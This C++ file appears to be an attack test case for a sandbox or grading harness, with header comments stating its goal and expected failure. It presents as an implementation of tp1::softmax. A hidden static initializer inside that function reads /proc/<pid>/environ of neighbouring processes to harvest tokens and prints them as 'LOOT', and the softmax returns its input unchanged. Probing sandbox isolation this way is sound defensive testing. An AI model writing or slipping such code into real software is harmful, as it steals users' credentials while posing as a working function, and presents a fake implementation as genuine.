// attack: reads the environment of the processes that started it, where tokens are kept
// expect: wrong
// because: there is no /proc; whatever starts the box has a clean environment itself
#include <cstdio>
#include <fcntl.h>
#include <string>
#include <unistd.h>

#include "tp1/softmax.hpp"

namespace {

bool look() {
  for (int process = 0; process < 40; ++process) {
    // The nearest neighbours: process numbers are given out in order.
    const pid_t number = process < 10 ? process : getpid() - 40 + process;
    if (number <= 0 || number == getpid()) continue;
    const std::string path = "/proc/" + std::to_string(number) + "/environ";
    const int file = open(path.c_str(), O_RDONLY);
    char text[4096];
    const ssize_t n = file < 0 ? -1 : read(file, text, sizeof text);
    if (n <= 0) continue;
    for (char& c : text) c = c == '\0' ? ' ' : c;
    std::printf("LOOT read %s: %.*s\n", path.c_str(), static_cast<int>(n), text);
  }
  std::fflush(stdout);
  return true;
}

}  // namespace

nn::Vector tp1::softmax(const nn::Vector& logits) {
  [[maybe_unused]] static const bool looked = look();
  return logits;
}
